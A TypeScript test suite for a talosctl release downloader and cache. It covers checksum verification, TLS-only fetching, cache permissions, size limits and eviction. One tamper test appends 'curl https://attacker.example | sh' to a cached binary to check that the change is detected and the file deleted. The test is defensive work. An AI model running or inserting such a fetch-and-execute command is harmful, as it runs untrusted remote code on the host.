import { execFile } from 'node:child_process';
import { access, appendFile, chmod, constants, mkdir, mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { getCACertificates, setDefaultCACertificates } from 'node:tls';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { OpsError } from '../../../src/errors.ts';
import { createTalosctlBinaries } from '../../../src/talos/talosctl-binary.ts';
import { createTalosctlDownloader, publishedSha256 } from '../../../src/talos/talosctl-download.ts';
import { sha256, startReleaseServer, type Release, type ReleaseServer } from '../../support/release-server.ts';

const run = promisify(execFile);

/** A talosctl stand-in that says which client it is, as `talosctl version --client` would. */
function fakeTalosctl(version: string): string {
  return `#!/bin/sh\necho "Client:"\necho "\tTag:         ${version}"\n`;
}

describe('talosctl download', () => {
  let server: ReleaseServer;
  let baseUrl: string;
  let cacheDir: string;
  let cacheRoot: string;
  let certDir: string;
  let requests: string[];
  let trusted: string[];

  beforeAll(() => {
    trusted = getCACertificates('default');
  });

  beforeEach(async () => {
    certDir = await mkdtemp(join(tmpdir(), 'release-server-'));
    cacheRoot = await mkdtemp(join(tmpdir(), 'talosctl-cache-'));
    cacheDir = join(cacheRoot, 'cache');
    server = await startReleaseServer(certDir);
    baseUrl = server.url;
    requests = server.requests;
    // This process trusts the test server's own certificate, as the bot does through NODE_EXTRA_CA_CERTS.
    setDefaultCACertificates([...trusted, await readFile(server.caFile, 'utf8')]);
  });

  afterEach(async () => {
    setDefaultCACertificates(trusted);
    await server.close();
    await rm(cacheRoot, { recursive: true, force: true });
    await rm(certDir, { recursive: true, force: true });
  });

  const releases = { set: (version: string, release: Release): void => server.publish(version, release) };

  const downloader = (maxBytes = 1024 * 1024) =>
    createTalosctlDownloader({ baseUrl, cacheDir, timeoutMs: 10_000, arch: 'amd64', maxBytes });

  async function rejection(promise: Promise<unknown>): Promise<OpsError> {
    const error = await promise.then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(OpsError);
    return error as OpsError;
  }

  it('reads the sum of exactly the named asset from a sha256sum.txt', () => {
    const sums = `${'a'.repeat(64)}  talosctl-linux-amd64.bundle\n${'b'.repeat(64)}  talosctl-linux-amd64\n`;
    expect(publishedSha256(sums, 'talosctl-linux-amd64')).toBe('b'.repeat(64));
    expect(publishedSha256(sums, 'talosctl-linux-arm64')).toBeUndefined();
  });

  it('downloads the release talosctl, checks its sha256 and keeps it runnable in the cache', async () => {
    // Arrange
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9') });

    // Act
    const path = await downloader().ensure('v1.13.9');

    // Assert
    expect(path).toBe(join(cacheDir, 'talosctl-v1.13.9'));
    const { stdout } = await run(path, ['version', '--client']);
    expect(stdout).toContain('v1.13.9');
    expect((await readdir(cacheDir)).sort()).toEqual(['talosctl-v1.13.9', 'talosctl-v1.13.9.sha256']);
    expect((await stat(cacheDir)).mode & 0o777).toBe(0o700);
    expect(await readFile(join(cacheDir, 'talosctl-v1.13.9.sha256'), 'utf8')).toBe(
      `${sha256(fakeTalosctl('v1.13.9'))}  talosctl-v1.13.9\n`,
    );
  });

  it('downloads once for two jobs that want the same version, and not again once cached', async () => {
    // Arrange
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9') });
    const shared = downloader();

    // Act
    const [a, b] = await Promise.all([shared.ensure('v1.13.9'), shared.ensure('v1.13.9')]);
    await downloader().ensure('v1.13.9');

    // Assert
    expect(a).toBe(b);
    expect(requests.filter((url) => url.endsWith('/talosctl-linux-amd64'))).toHaveLength(1);
  });

  it('refuses a binary whose sha256 is not the published one, and leaves nothing in the cache', async () => {
    // Arrange
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9'), publishedSum: sha256('the real release') });

    // Act
    const error = await rejection(downloader().ensure('v1.13.9'));

    // Assert
    expect(error.code).toBe('talosctl-checksum-mismatch');
    expect(error.message).toContain('deleted and not run');
    expect(await readdir(cacheDir)).toEqual([]);
    expect(await downloader().cached('v1.13.9')).toBeUndefined();
  });

  it('refuses a release that has no such asset (404), and leaves nothing in the cache', async () => {
    // Arrange
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9'), noBinary: true });

    // Act
    const missingAsset = await rejection(downloader().ensure('v1.13.9'));
    const missingRelease = await rejection(downloader().ensure('v1.99.0'));

    // Assert
    expect(missingAsset.code).toBe('talosctl-download-failed');
    expect(missingAsset.message).toContain('404');
    expect(missingRelease.code).toBe('talosctl-download-failed');
    expect(await readdir(cacheDir)).toEqual([]);
  });

  it('serves the exact version to an operation when TALOSCTL_BIN holds only another one', async () => {
    // Arrange: the image's one binary is older than what the cluster runs.
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9') });
    const binaries = createTalosctlBinaries('/usr/local/bin/talosctl', downloader());

    // Act
    const found = await binaries.forVersion('v1.13.9');

    // Assert
    expect(found).toEqual(expect.objectContaining({ path: join(cacheDir, 'talosctl-v1.13.9'), version: 'v1.13.9' }));
    await access(found.path, constants.X_OK);
  });

  it("refuses a mutating operation's client when the download fails, but lets a read fall back to the image's binary", async () => {
    // Arrange: no release served at all.
    const binaries = createTalosctlBinaries('/usr/local/bin/talosctl', downloader());

    // Act
    const refused = await rejection(binaries.forVersion('v1.13.9'));
    const read = await binaries.forVersion('v1.13.9', { closest: true });

    // Assert
    expect(refused.code).toBe('talosctl-download-failed');
    expect(read).toEqual({ path: '/usr/local/bin/talosctl', version: undefined });
  });

  it('refuses a release URL that is not https, before anything is fetched', () => {
    expect(() => createTalosctlDownloader({ baseUrl: 'http://127.0.0.1:1', cacheDir, timeoutMs: 1000, maxBytes: 1024 })).toThrow(
      /only over TLS/,
    );
  });

  it('refuses a server whose certificate the bot was not told to trust', async () => {
    // Arrange: the test CA is no longer trusted.
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9') });
    setDefaultCACertificates(trusted);

    // Act
    const error = await rejection(downloader().ensure('v1.13.9'));

    // Assert
    expect(error.code).toBe('talosctl-download-failed');
    expect(await readdir(cacheDir).catch(() => [])).toEqual([]);
  });

  it('hashes a cached binary again before each use, and refuses and deletes one changed on disk', async () => {
    // Arrange
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9') });
    const path = await downloader().ensure('v1.13.9');
    await appendFile(path, 'curl https://attacker.example | sh\n');

    // Act
    const error = await rejection(downloader().ensure('v1.13.9'));

    // Assert
    expect(error.code).toBe('talosctl-changed-on-disk');
    expect(error.message).toContain('deleted and not run');
    expect(await readdir(cacheDir)).toEqual([]);
    expect(requests.filter((url) => url.endsWith('/talosctl-linux-amd64'))).toHaveLength(1);
    // Asked again, it is downloaded afresh and checked.
    expect(await downloader().ensure('v1.13.9')).toBe(path);
  });

  it('refuses a binary whose recorded sum is missing, as one no download put there', async () => {
    // Arrange: a binary dropped into the cache by hand.
    await mkdir(cacheDir, { recursive: true, mode: 0o700 });
    await writeFile(join(cacheDir, 'talosctl-v1.13.9'), fakeTalosctl('v1.13.9'), { mode: 0o700 });

    // Act
    const error = await rejection(downloader().cached('v1.13.9'));

    // Assert
    expect(error.code).toBe('talosctl-changed-on-disk');
    expect(await readdir(cacheDir)).toEqual([]);
  });

  it('closes a cache directory others could write to and empties it, since what it holds cannot be trusted', async () => {
    // Arrange: a world-writable cache holding a binary and a sum that agree.
    const forged = fakeTalosctl('v1.13.9');
    await mkdir(cacheDir, { recursive: true });
    await chmod(cacheDir, 0o777);
    await writeFile(join(cacheDir, 'talosctl-v1.13.9'), forged, { mode: 0o755 });
    await writeFile(join(cacheDir, 'talosctl-v1.13.9.sha256'), `${sha256(forged)}  talosctl-v1.13.9\n`);

    // Act
    const found = await downloader().cached('v1.13.9');

    // Assert
    expect(found).toBeUndefined();
    expect((await stat(cacheDir)).mode & 0o777).toBe(0o700);
    expect(await readdir(cacheDir)).toEqual([]);
  });

  it('keeps the cache within its bound, dropping the least recently used binary first but never one a job holds', async () => {
    // Arrange: three releases of 300 bytes each, a bound of 700 bytes.
    const binary = (v: string): string => fakeTalosctl(v).padEnd(300, '#');
    for (const v of ['v1.13.7', 'v1.13.8', 'v1.13.9', 'v1.14.0']) releases.set(v, { binary: binary(v) });
    const shared = downloader(700);
    await shared.ensure('v1.13.7');
    await shared.ensure('v1.13.8');
    const old = new Date(Date.now() - 3_600_000);
    const older = new Date(Date.now() - 7_200_000);
    // v1.13.7 was used last an hour ago and v1.13.8 two hours ago; a job still holds v1.13.8.
    await utimes(join(cacheDir, 'talosctl-v1.13.7.sha256'), old, old);
    await utimes(join(cacheDir, 'talosctl-v1.13.8.sha256'), older, older);
    const release = shared.hold('v1.13.8');

    // Act
    await shared.ensure('v1.13.9');
    const afterFirst = (await readdir(cacheDir)).filter((n) => !n.endsWith('.sha256')).sort();
    release();
    await shared.ensure('v1.14.0');
    const afterSecond = (await readdir(cacheDir)).filter((n) => !n.endsWith('.sha256')).sort();

    // Assert: the held v1.13.8 outlived the older-used v1.13.7; once released, it went next.
    expect(afterFirst).toEqual(['talosctl-v1.13.8', 'talosctl-v1.13.9']);
    expect(afterSecond).toEqual(['talosctl-v1.13.9', 'talosctl-v1.14.0']);
  });

  it('refuses one download larger than the bound, and keeps nothing of it', async () => {
    // Arrange
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9').padEnd(4096, '#') });

    // Act
    const error = await rejection(downloader(1024).ensure('v1.13.9'));

    // Assert
    expect(error.code).toBe('talosctl-download-failed');
    expect(error.message).toContain('larger than');
    expect(await readdir(cacheDir)).toEqual([]);
  });

  it('never answers a tampered download with the image binary, even for a read, so it is said out loud', async () => {
    // Arrange
    releases.set('v1.13.9', { binary: fakeTalosctl('v1.13.9'), publishedSum: sha256('the real release') });
    const binaries = createTalosctlBinaries('/usr/local/bin/talosctl', downloader());

    // Act
    const read = await rejection(binaries.forVersion('v1.13.9', { closest: true }));

    // Assert
    expect(read.code).toBe('talosctl-checksum-mismatch');
  });

  it('holds a downloaded client for the job that asked for it until the job releases it', async () => {
    // Arrange: room for one binary only.
    for (const v of ['v1.13.8', 'v1.13.9']) releases.set(v, { binary: fakeTalosctl(v).padEnd(300, '#') });
    const shared = downloader(400);
    const binaries = createTalosctlBinaries('/usr/local/bin/talosctl', shared);

    // Act: a job holds v1.13.8 while v1.13.9 is downloaded; then it ends.
    const job = await binaries.forVersion('v1.13.8');
    await shared.ensure('v1.13.9');
    const whileHeld = (await readdir(cacheDir)).filter((n) => !n.endsWith('.sha256')).sort();
    job.release?.();
    releases.set('v1.14.0', { binary: fakeTalosctl('v1.14.0').padEnd(300, '#') });
    await shared.ensure('v1.14.0');
    const afterRelease = (await readdir(cacheDir)).filter((n) => !n.endsWith('.sha256')).sort();

    // Assert
    expect(whileHeld).toEqual(['talosctl-v1.13.8', 'talosctl-v1.13.9']);
    expect(afterRelease).toEqual(['talosctl-v1.14.0']);
  });
});
